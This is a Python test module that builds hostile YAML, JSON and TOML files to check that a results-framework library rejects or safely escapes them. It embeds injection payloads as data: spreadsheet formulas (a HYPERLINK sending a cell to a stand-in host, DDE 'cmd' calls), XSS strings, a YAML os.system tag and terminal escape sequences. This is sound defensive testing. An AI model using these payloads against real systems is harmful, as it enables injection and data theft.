"""
A corpus of hostile programme files, made at test time (nothing of it is committed as files).

Each :class:`Case` is one file: its bytes, its suffix, and what must become of it: ``"error"``
(loading fails with a :class:`~resultsframework.LoadError` naming the file, and saying
*message*) or ``"loads"``.  A case that loads lists the hostile texts it holds (*texts*), so that
the tests can look for them, escaped for each format, in every output; and the outputs that
must refuse it with a clear message (*refused*: a spreadsheet cell cannot hold 100,000
characters).  ``tests/test_corpus.py`` runs every case through every command.

Most cases start from the illustrative example (quarters, breakdowns, dimensions of its own,
links to the IOM strategy and the DSTWG catalogue, so that ``pillars`` and ``dstwg`` have
something to do) and change one thing.
"""

from __future__ import annotations

import copy
import itertools
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any, Literal

import yaml

import resultsframework as rf

from .conftest import ROOT

__all__ = ["CASES", "Case", "base"]

ILLUSTRATIVE = ROOT / "examples" / "iom-iraq-reintegration-illustrative.yaml"

Doc = dict[str, Any]
Scope = Literal["all", "values", "file", "big"]


@dataclass(frozen=True)
class Case:
    """One hostile file, and what must become of it."""

    name: str
    content: bytes
    suffix: str = ".yaml"
    expect: Literal["error", "loads"] = "loads"
    message: str = ""
    """For an error: a part of the message every command must give."""
    texts: tuple[str, ...] = ()
    """Hostile texts the programme holds (each at the start of every text it is put in)."""
    refused: Mapping[str, str] = field(default_factory=dict)
    """Outputs that must end in a clear error (exit 1), and a part of the message."""
    scope: Scope = "values"
    """Which outputs a case that loads goes through: ``all`` (hostile texts, which every format
    must escape), ``values`` (every output where values matter), ``file`` (the base programme
    in another syntax: loading and writing it), ``big`` (load, validate, summary, one render)."""

    chart: bool = False
    """Drawn as a chart too (charts take long: only cases of hostile texts or odd values are drawn)."""
    apart: bool = False
    """Run in a process of its own: reading it recurses deeply, which can leave an interpreter unwell
    (Python 3.11 may then fail to parse source, as pytest does to show a failure)."""

    @property
    def file_name(self) -> str:
        return f"{self.name}{self.suffix}"

    def write(self, folder: Path) -> Path:
        path = folder / self.file_name
        path.write_bytes(self.content)
        return path


_BASE: Doc | None = None


def base() -> Doc:
    """The illustrative programme as plain data (a fresh copy each time)."""
    global _BASE  # noqa: PLW0603  (read once per process)
    if _BASE is None:
        _BASE = json.loads(rf.dumps(rf.load(ILLUSTRATIVE)), parse_float=Decimal)
    return copy.deepcopy(_BASE)


# -- writing documents -------------------------------------------------------------------------


def _plain(value: Any) -> Any:
    """Decimals as floats or ints, for writers that know no Decimal (only exact ones occur here)."""
    if isinstance(value, dict):
        return {k: _plain(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_plain(v) for v in value]
    if isinstance(value, Decimal):  # 2024 stays a whole number, 2024.0 is written with its point
        return int(value) if value.as_tuple().exponent == 0 else float(value)
    return value


def as_json(data: Doc) -> bytes:
    return json.dumps(_plain(data), ensure_ascii=False, indent=1).encode("utf-8", "surrogatepass")


def as_ascii_json(data: Doc) -> bytes:
    """JSON with every non-ASCII character escaped: the way a lone surrogate gets into a file."""
    return json.dumps(_plain(data), ensure_ascii=True).encode("ascii")


def as_yaml(data: Doc) -> bytes:
    """YAML by PyYAML's own writer, not the library's: the corpus must not share its writer's bugs."""
    return yaml.safe_dump(_plain(data), allow_unicode=True, sort_keys=False, width=1000).encode("utf-8")


def _toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal):
        return str(value)
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False)  # a TOML basic string reads JSON's escapes
    if isinstance(value, list):
        return "[" + ", ".join(_toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        pairs = (f"{json.dumps(k)} = {_toml_value(v)}" for k, v in value.items() if v is not None)
        return "{" + ", ".join(pairs) + "}"
    raise TypeError(value)


def as_toml(data: Doc) -> bytes:
    lines = [f"{json.dumps(k)} = {_toml_value(v)}" for k, v in data.items() if v is not None]
    return ("\n".join(lines) + "\n").encode("utf-8")


WRITERS: dict[str, Callable[[Doc], bytes]] = {".yaml": as_yaml, ".json": as_json, ".toml": as_toml}


# -- changing documents ------------------------------------------------------------------------


def first_indicator(data: Doc) -> Doc:
    """The first indicator of the first output (1.1.1: breakdowns by sex, age and type of support)."""
    found: Doc = data["outcomes"][0]["outputs"][0]["indicators"][0]
    return found


def indicators(data: Doc) -> Iterator[Doc]:
    for outcome in data["outcomes"]:
        yield from outcome.get("indicators", [])
        for output in outcome.get("outputs", []):
            yield from output.get("indicators", [])


_FREE_TEXTS = {
    "title", "priority_area", "name", "contributor", "label", "extension_reason",
    "code", "statement", "narrative", "status_reason", "unit", "means_of_verification", "text",
    "comment", "reason", "explanation", "source",
}  # fmt: skip
"""Keys whose text is the user's own words (``source`` of a contribution is a choice, below; the
country is left as it is, a name IATI needs to know)."""


def everywhere(data: Doc, change: Callable[[str], str]) -> Doc:
    """
    *data* with *change* applied to every text the user writes: titles, codes, statements,
    narratives (their names too), names of organisations and places, units, sources, reasons,
    explanations, and the categories of the programme's own dimensions and of places.
    Organisation and dimension ids, choices, periods and dates are kept.
    """

    def walk(node: Any, key: str | None, parents: tuple[str, ...]) -> Any:
        if isinstance(node, dict):
            if key == "narrative":  # a mapping of named sections
                return {change(k): change(v) for k, v in node.items()}
            return {k: walk(v, k, (*parents, str(key))) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v, key, parents) for v in node]
        if isinstance(node, str) and key in _FREE_TEXTS:
            if key == "source" and "contributions" in parents:
                return node
            if key == "name" and "submitted_by" in parents:
                return change(node)
            return change(node)
        return node

    changed: Doc = walk(data, None, ())
    changed["identifiers"] = [{**i, "id": change(i["id"])} for i in changed.get("identifiers", [])]
    # The programme's own categories, renamed wherever a cell names them.
    renamed: dict[tuple[str, str], str] = {}
    for dimension in changed.get("dimensions", []):
        for category in dimension.get("categories", []):
            renamed[(dimension["id"], category)] = change(category)
        dimension["categories"] = [renamed[(dimension["id"], c)] for c in dimension.get("categories", [])]
    for item in indicators(changed):
        for achieved in item.get("achieved", []):
            for breakdown in achieved.get("breakdowns", []):
                breakdown["cells"] = [
                    {k: renamed.get((k, v), v) if k != "value" else v for k, v in cell.items()}
                    for cell in breakdown["cells"]
                ]
    # Places: a breakdown by location, its categories the user's words.
    extra = first_indicator(changed)["achieved"][0]
    extra.setdefault("breakdowns", []).append(
        {"dimensions": ["location"], "cells": [{"location": change("Mosul"), "value": 100},
                                               {"location": change("Sinjar"), "value": 40}]}
    )  # fmt: skip
    return changed


def prefixed(*payloads: str) -> Callable[[str], str]:
    """Each text with a payload at its start: the payloads in turn, one text after another."""
    turn = itertools.cycle(payloads)
    return lambda text: next(turn) + text


# -- the cases ---------------------------------------------------------------------------------

HEAD = "format: resultsframework/1\n"
MINIMAL = HEAD + "title: T\n"


def _error(name: str, content: str | bytes, message: str, suffix: str = ".yaml") -> Case:
    data = content.encode("utf-8") if isinstance(content, str) else content
    return Case(name, data, suffix, "error", message)


def _changed(
    name: str,
    change: Callable[[Doc], object],
    suffix: str = ".yaml",
    expect: Literal["error", "loads"] = "loads",
    message: str = "",
    *,
    texts: tuple[str, ...] = (),
    refused: Mapping[str, str] | None = None,
    writer: Callable[[Doc], bytes] | None = None,
    scope: Scope = "values",
    chart: bool = False,
) -> Case:
    data = base()
    change(data)
    content = (writer or WRITERS[suffix])(data)
    return Case(name, content, suffix, expect, message, texts, refused or {}, scope, chart)


def _payload(name: str, *payloads: str, suffix: str = ".yaml", chart: bool = False) -> Case:
    """The payload at the start of every text the user writes (several: in turn)."""
    data = everywhere(base(), prefixed(*payloads))
    return Case(name, WRITERS[suffix](data), suffix, "loads", texts=payloads, scope="all", chart=chart)


def _set(path: str, value: object) -> Callable[[Doc], None]:
    """A change setting the value at a dotted path (``outcomes.0.statement``)."""

    def change(data: Doc) -> None:
        *parents, last = path.split(".")
        node: Any = data
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return change


IND = "outcomes.0.outputs.0.indicators.0"
"""The path of the first indicator of the first output (1.1.1)."""
PCT = "outcomes.0.outputs.0.indicators.1"
"""The path of a percentage indicator with numerators and denominators (1.1.2)."""


# The cases, one a line where it fits: read as a table.
# fmt: off


def _syntax_and_encoding() -> Iterator[Case]:
    yield _error("empty-yaml", "", "the document is empty")
    yield _error("empty-json", "", "the document is empty", ".json")
    yield _error("empty-toml", "", "missing; expected 'format: resultsframework/1'", ".toml")
    yield _error("whitespace-only-yaml", "  \n\n   \n", "the document is empty")
    yield _error("null-document-yaml", "~\n", "expected a mapping at the top of the document")
    yield _error("list-document-json", "[]", "expected a mapping at the top of the document", ".json")
    yield _error("text-document-json", '"title"', "expected a mapping at the top of the document", ".json")
    yield Case("bom-yaml", b"\xef\xbb\xbf" + as_yaml(base()), scope="file")
    yield Case("bom-json", b"\xef\xbb\xbf" + as_json(base()), ".json", scope="file")
    yield _error("utf16-yaml", (MINIMAL).encode("utf-16"), "not UTF-8 text")
    yield _error("utf16-json", json.dumps(base()).encode("utf-16"), "not UTF-8 text", ".json")
    yield _error("invalid-utf8", HEAD.encode() + b"title: caf\xe9 \xff\n", "not UTF-8 text")
    yield _error("raw-nul-yaml", HEAD + "title: a\x00b\n", "not valid YAML")
    yield _error("raw-nul-json", '{"format": "resultsframework/1", "title": "a\x00b"}', "not valid JSON", ".json")
    yield _error("yaml-tab-indent", HEAD + "title: T\noutcomes:\n\t- code: '1'\n", "indent with spaces")
    yield _error("yaml-two-documents", MINIMAL + "---\n" + MINIMAL, "not valid YAML")
    yield _error("yaml-alias", HEAD + "title: &t T\ncountry: *t\n", "YAML aliases")
    yield _error("yaml-merge-key", HEAD + "title: T\ndates: {<<: {start: '2021-01-01'}}\n", "unknown key '<<'")
    yield _error("yaml-python-tag", HEAD + "title: !!python/object/apply:os.system [echo hi]\n", "YAML tags")
    yield _error("yaml-binary-tag", HEAD + "title: !!binary aGVsbG8=\n", "expected text")
    yield _error("json-trailing-comma", '{"format": "resultsframework/1", "title": "T",}', "not valid JSON", ".json")
    yield _error("json-comment", '{"format": "resultsframework/1", // note\n"title": "T"}', "not valid JSON", ".json")
    yield _error("toml-syntax", 'format = "resultsframework/1"\ntitle = \n', "not valid TOML", ".toml")
    deep = '{"format": "resultsframework/1", "title": "T", "narrative": ' + "[" * 100_000 + "]" * 100_000 + "}"
    yield Case("deep-nesting-json", deep.encode(), ".json", "error", "nested too deeply", apart=True)
    deep = HEAD + "title: T\nnarrative: " + "[" * 1000 + "]" * 1000 + "\n"
    yield Case("deep-nesting-yaml", deep.encode(), ".yaml", "error", "nested too deeply", apart=True)
    yield Case("toml", as_toml(base()), ".toml", scope="file")


def _duplicates() -> Iterator[Case]:
    yield _error("duplicate-top-yaml", MINIMAL + "title: U\n", "duplicate key 'title'")
    nested = as_yaml(base()).decode().replace("    statement: '% of returnee", "    code: '9.9'\n    statement: '% of returnee", 1)
    yield _error("duplicate-nested-yaml", nested, "duplicate key 'code'")
    yield _error(
        "duplicate-cell-yaml",
        HEAD + "title: T\noutcomes:\n- code: '1'\n  statement: S\n  indicators:\n  - code: '1.1'\n"
        "    statement: I\n    measure: count\n    achieved:\n    - period: '2025'\n      value: 3\n"
        "      breakdowns:\n      - dimensions: [sex]\n        cells:\n        - {sex: female, sex: male, value: 3}\n",
        "duplicate key 'sex'",
    )
    yield _error("duplicate-narrative-yaml", MINIMAL + "narrative:\n  summary: a\n  summary: b\n", "duplicate key 'summary'")
    yield _error("duplicate-quoted-yaml", MINIMAL + "'title': U\n", "duplicate key 'title'")
    yield _error("duplicate-top-json", '{"format": "resultsframework/1", "title": "T", "title": "U"}', "duplicate key 'title'", ".json")
    text = as_json(base()).decode().replace('"measure": "count"', '"measure": "count", "measure": "money"', 1)
    yield _error("duplicate-nested-json", text, "duplicate key 'measure'", ".json")
    yield _error("duplicate-top-toml", 'format = "resultsframework/1"\ntitle = "T"\ntitle = "U"\n', "not valid TOML", ".toml")  # fmt: skip


def _numbers() -> Iterator[Case]:
    def target(text: str) -> str:
        return as_json(base()).decode().replace('"value": 600', f'"value": {text}', 1)

    yield _error("nan-json", target("NaN"), "expected a finite number, found NaN", ".json")
    yield _error("infinity-json", target("Infinity"), "expected a finite number, found Infinity", ".json")
    yield _error("minus-infinity-json", target("-Infinity"), "expected a finite number, found -Infinity", ".json")
    yield _error("nan-yaml", MINIMAL + "budget: {total_approved: {amount: .nan, currency: USD}}\n", "finite number")
    yield _error("infinity-yaml", MINIMAL + "budget: {total_approved: {amount: -.inf, currency: USD}}\n", "finite number")
    yield _error("nan-toml", 'format = "resultsframework/1"\ntitle = "T"\nbudget = {total_approved = {amount = nan, currency = "USD"}}\n', "finite number", ".toml")  # fmt: skip
    yield _error("1e400-json", target("1e400"), "too large or too precise", ".json")
    yield _error("1e400-yaml", MINIMAL + "budget: {total_approved: {amount: 1e400, currency: USD}}\n", "too large or too precise")
    yield _error("1e-400-json", target("1e-400"), "too large or too precise", ".json")
    yield _error("huge-int-json", target("1" + "0" * 45), "too large", ".json")
    yield _error("huge-int-5000-digits", target("9" * 5000), "not a valid JSON document", ".json")
    yield _error("too-precise-decimal", target("0." + "1" * 45), "too large or too precise", ".json")
    yield Case("minus-zero-json", target("-0").encode(), ".json", chart=True)
    yield Case("minus-zero-decimal-json", target("-0.0").encode(), ".json")
    yield _changed("float-count", _set(f"{IND}.achieved.0.value", Decimal("140.5")), chart=True)
    yield _changed("float-year", _set("outcomes.0.indicators.1.baseline.year", Decimal("2024.0")),
                   expect="error", message="expected a whole number")  # fmt: skip
    yield _changed("bool-count", _set(f"{IND}.achieved.0.value", True), chart=True,
                   refused={"tracker": "is not a number"})  # fmt: skip
    yield _changed("text-count", _set(f"{IND}.achieved.0.value", "1,234"), chart=True,
                   refused={"tracker": "is not a number"})  # fmt: skip
    yield _changed("negative-count", _set(f"{IND}.achieved.1.value", -171), chart=True)
    yield _changed("percent-denominator-zero", _set(f"{PCT}.achieved.0.value", {"numerator": 0, "denominator": 0}), chart=True)
    yield _changed("percent-numerator-over", _set(f"{PCT}.achieved.0.value", {"numerator": 70, "denominator": 50}), chart=True)
    yield _changed("percent-negative-denominator", _set(f"{PCT}.achieved.0.value", {"numerator": 3, "denominator": -5}), chart=True)
    yield _changed("percent-over-100", _set("outcomes.0.indicators.0.target.value", 150), chart=True)
    yield _changed("float-denominator", _set(f"{PCT}.achieved.0.value", {"numerator": 3, "denominator": Decimal("4.5")}), chart=True)
    yield _changed("money-many-decimals", _set("budget.total_approved.amount", Decimal("0.000000001")))
    yield _changed("money-negative", _set("budget.total_approved.amount", -1250000))
    yield _changed("money-amount-text", _set("budget.total_approved.amount", "1,250,000 USD"),
                   expect="error", message="expected a number")  # fmt: skip


def _dates() -> Iterator[Case]:
    yield _changed("date-feb-30", _set("dates.start", "2021-02-30"), expect="error", message="dates.start")
    yield _changed("date-year-zero", _set("dates.start", "0000-01-01"), expect="error", message="dates.start")
    yield _changed("date-datetime", _set("dates.start", "2025-01-01T10:00:00Z"), expect="error", message="dates.start")
    yield _changed("date-datetime-local", _set("dates.start", "2025-01-12T10:00:00"), expect="error", message="dates.start")
    yield _changed("period-datetime", _set(f"{IND}.achieved.0.period", "2025-01-01T00:00/2025-03-31"),
                   expect="error", message="achieved[0].period")  # fmt: skip
    yield _changed("date-slashes", _set("dates.start", "01/02/2025"), expect="error", message="dates.start")
    yield _changed("date-number", _set("dates.start", 20250101), expect="error", message="dates.start")
    yield _changed("date-far-future", _set("dates.original_end", "9999-12-31"), chart=True)
    yield _changed("dates-reversed", _set("dates.original_end", "2024-01-01"), chart=True)
    yield _changed("period-reversed-range", _set(f"{IND}.achieved.0.period", "2025-06-30/2025-01-01"), chart=True)
    yield _changed("period-quarter-5", _set(f"{IND}.achieved.0.period", "2025Q5"), expect="error", message="achieved[0].period")
    yield _changed("period-fiscal-year", _set("reporting_periods.0", "FY2025"), expect="error", message="reporting_periods[0]")
    yield _changed("period-in-the-future", _set(f"{IND}.achieved.1.period", "2099Q2"))
    yield _changed("period-before-year-1000", _set(f"{IND}.achieved.0.period", "0999Q1"), chart=True)
    yield _changed("period-week-9999", _set(f"{IND}.achieved.0.period", "9999W52"), expect="error", message="9999W52")
    yield _changed("dates-year-one", _set("dates.start", "0001-01-01"))
    yield Case("date-unquoted-yaml", as_yaml(base()).replace(b"start: '2025-01-01'", b"start: 2025-01-01"), scope="file")
    toml = as_toml(base()).replace(b'"start" = "2025-01-01"', b'"start" = 2025-01-01')
    yield Case("date-native-toml", toml, ".toml", scope="file")
    toml = as_toml(base()).replace(b'"start" = "2025-01-01"', b'"start" = 2025-01-01T10:00:00')
    yield Case("datetime-native-toml", toml, ".toml", "error", "dates.start")


def _shapes() -> Iterator[Case]:
    yield _changed("title-list", _set("title", ["a", "b"]), expect="error", message="title")
    yield _changed("title-mapping", _set("title", {"en": "T"}), expect="error", message="title")
    yield _changed("title-null", _set("title", None), expect="error", message="title")
    yield _changed("outcomes-mapping", _set("outcomes", {"code": "1"}), expect="error", message="outcomes")
    yield _changed("outcomes-texts", _set("outcomes", ["1", "2"]), expect="error", message="outcomes[0]")
    yield _changed("indicator-null", _set(IND, None), expect="error", message="indicators[0]")
    yield _changed("narrative-list", _set("narrative", ["x"]), expect="error", message="narrative")
    yield _changed("narrative-nested", _set("narrative.executive_summary", {"a": "b"}), expect="error", message="narrative")
    yield _changed("cells-mapping", _set(f"{IND}.achieved.0.breakdowns.0.cells", {"sex": "female"}), expect="error", message="cells")
    yield _changed("cell-value-list", _set(f"{IND}.achieved.0.breakdowns.0.cells.0.value", [62]), expect="error", message="cells[0]")
    yield _changed("code-number", _set(f"{IND}.code", Decimal("1.1")), expect="error", message="in quotes")
    yield _changed("links-text", _set(f"{IND}.links", "dstwg-iraq:SO3.1.1"), expect="error", message="links")
    yield _changed("measure-unknown", _set(f"{IND}.measure", "counts"), expect="error", message="measure")
    yield _changed("target-number", _set(f"{IND}.target", 600), expect="error", message="{value: 600}")
    yield _changed("format-missing", lambda d: d.pop("format"), expect="error", message="format")
    yield _changed("format-version-2", _set("format", "resultsframework/2"), expect="error", message="unsupported format")
    yield _changed("typo-top", lambda d: d.__setitem__("countrie", d.pop("country")), expect="error", message="did you mean 'country'")
    yield _changed("typo-nested", lambda d: first_indicator(d).__setitem__("statment", "x"),
                   expect="error", message="did you mean 'statement'")  # fmt: skip
    yield _changed("unknown-field", _set("x-internal-id", 42), expect="error", message="unknown key 'x-internal-id'")
    yield _error("key-not-text-yaml", MINIMAL + "1: one\n", "a key must be a text")
    yield _error("key-list-yaml", MINIMAL + "? [a, b]\n: c\n", "a mapping key must be a plain value")
    yield _changed("key-100k", _set("k" * 100_000, 1), ".json", "error", "unknown key")

    def nulls(data: Doc) -> None:
        """Null for every value that may be absent."""
        for key in ("country", "priority_area", "budget", "evaluation", "impact", "submitted_by"):
            data[key] = None
        for item in indicators(data):
            for key in ("unit", "baseline", "target", "means_of_verification", "currency"):
                item[key] = None
            for achieved in item.get("achieved", []):
                for key in ("value", "source", "narrative", "variance", "reported_by", "comment"):
                    achieved[key] = None

    yield _changed("nulls-everywhere", nulls, chart=True)
    yield _changed("nulls-everywhere-json", nulls, ".json", scope="file")
    yield _changed("null-list", _set("localities", None), expect="error", message="expected a list, found nothing")
    yield _changed("null-choice", _set(f"{IND}.direction", None), expect="error", message="direction")

    def statements_empty(data: Doc) -> None:
        for item in indicators(data):
            item["statement"] = ""

    yield _changed("empty-statements", statements_empty, chart=True)


def _breakdowns() -> Iterator[Case]:
    yield _changed("category-unknown", _set(f"{IND}.achieved.0.breakdowns.0.cells.0.sex", "femal"))
    yield _changed("dimension-undeclared", _set(f"{IND}.achieved.0.breakdowns.2.dimensions", ["type_of_help"]),
                   refused={"tracker": "has cells by type_of_support"})  # fmt: skip
    yield _changed("category-of-other-dimension",
                   _set(f"{IND}.achieved.0.breakdowns.2.cells.0.type_of_support", "major"))  # fmt: skip
    yield _changed("breakdown-sum-mismatch", _set(f"{IND}.achieved.0.breakdowns.0.cells.0.value", 1000))
    yield _changed("cell-negative", _set(f"{IND}.achieved.0.breakdowns.0.cells.0.value", -62))

    def shared_codes(data: Doc) -> None:
        data["outcomes"][0]["outputs"][0]["indicators"][1]["code"] = first_indicator(data)["code"]

    yield _changed("indicator-codes-shared", shared_codes, refused={"tracker": "share"})

    def unknown_org(data: Doc) -> None:
        first_indicator(data)["responsible"] = ["NOPE"]

    yield _changed("organisation-unknown", unknown_org)

    def forged_line(data: Doc) -> None:  # a finding naming this indicator must stay one line
        first_indicator(data)["code"] = "1.1.1\nfake.yaml: valid"
        first_indicator(data)["achieved"][0]["value"] = -1

    yield _changed("newline-in-code", forged_line)


def _texts() -> Iterator[Case]:
    yield _payload("escape-bell", "\x1b[2J\x1b]0;pwned\x07\x9b31m", chart=True)
    yield _payload("escape-and-nul-json", "\x1b[31m\x07", "a\x00b ", suffix=".json", chart=True)
    yield _payload("lone-cr", "a\rb ", chart=True)
    yield _payload("line-separators", "a\u2028b\u2029c\x85d ")
    yield _payload("xml-illegal", "\x01\x02\x0b\x0c\x1f ", chart=True)
    yield _payload("bidi-override", "\u202e", chart=True)
    yield _payload("bidi-isolate", "\u2066\u2067")
    yield _payload("bidi-closed-early", "\u202c\u2069\u202e")
    yield _payload("formula-equals", '=HYPERLINK("http://x.example/?"&A1,"Click")')
    yield _payload("formula-plus-at-minus", "+cmd|' /C calc'!A0 ", "@SUM(1+1)*cmd|' /C calc'!A0 ", "-1+1 ", " =1+1 ")
    yield _payload("formula-control-start", "\t=1+1 ", "\r=1+1 ", "\n=1+1 ")
    yield _payload("formula-toml", "=1+1 ", suffix=".toml")
    yield _payload("html-script", "<script>alert(1)</script>", chart=True)
    yield _payload("html-markup", "</td></tr></table><b>x</b>", "\"'><img src=x onerror=alert(1)>", "&lt;script&gt; &amp; &#60;")
    yield _payload("markdown-pipes", "a | b || c \\| d ")
    yield _payload("markdown-code-and-link", "`x` ``` [x](javascript:alert(1)) ![i](http://x.example/i.png) ")
    yield _payload("markdown-blocks-and-emphasis", "# H\n- item\n1. one\n> quote\n---\n", "**b** __u__ *i* ~~s~~ <br> ")
    yield _payload("xml-breaking", "]]> & < > \" ' <![CDATA[x]]> ", chart=True)
    yield _payload("tex-dollars", "$x$ $$\\frac{1}{0}$$ \\textbf{b} % ^ _ ", chart=True)
    yield _payload("yaml-lookalikes", "yes: no # ~ null 1e3 0x1F: ")
    yield _payload("emoji-and-combining", "\U0001f600\U0001f469\u200d\U0001f467 ", "e\u0301\u200b\u200d\ufeff ", chart=True)
    yield _payload("arabic", "مؤشر الأداء ١٢٣ ", chart=True)
    yield _payload("noncharacters", "\ufffe\uffff ", chart=True)
    long = "x" * 100_000
    yield _changed("statement-100k", _set(f"{IND}.statement", long), texts=(long,), scope="all",
                   refused={"render-xlsx": "32,767", "tracker": "32,767"}, chart=True)  # fmt: skip
    yield _changed("narrative-100k", _set("narrative.executive_summary", long), scope="all")
    yield _changed("title-100k", _set("title", long), refused={"tracker": "32,767"}, scope="all", chart=True)
    hostile_names = {"=cmd|x": "a", "<script>": "b", "\u202e\x1b": "c", "# x\n- y": "d"}
    yield _changed("narrative-names-hostile", _set("narrative", hostile_names), scope="all")


def _surrogates() -> Iterator[Case]:
    message = "lone surrogate"
    yield _changed("surrogate-title", _set("title", "a\ud800"), ".json", "error", message, writer=as_ascii_json)
    yield _changed("surrogate-category", _set(f"{IND}.achieved.0.breakdowns.0.cells.0.sex", "\udfff"),
                   ".json", "error", message, writer=as_ascii_json)  # fmt: skip
    yield _changed("surrogate-key", _set("narrative", {"\udc80": "x"}), ".json", "error", message, writer=as_ascii_json)
    yield _error("surrogate-raw-bytes", HEAD.encode() + b"title: \xed\xa0\x80\n", "not UTF-8 text")


def _big() -> Iterator[Case]:
    items = [
        {"code": f"1.{i}", "statement": f"Indicator {i} <b>|=</b>", "measure": "count",
         "target": {"value": 100}, "achieved": [{"period": "2025Q1", "value": i % 150}]}
        for i in range(10_000)
    ]  # fmt: skip
    document = {"format": "resultsframework/1", "title": "Ten thousand indicators",
                "outcomes": [{"code": "1", "statement": "Everything", "indicators": items}]}  # fmt: skip
    yield Case("ten-thousand-indicators", json.dumps(document).encode(), ".json", scope="big")


# fmt: on


CASES: tuple[Case, ...] = (
    *_syntax_and_encoding(),
    *_duplicates(),
    *_numbers(),
    *_dates(),
    *_shapes(),
    *_breakdowns(),
    *_texts(),
    *_surrogates(),
    *_big(),
)
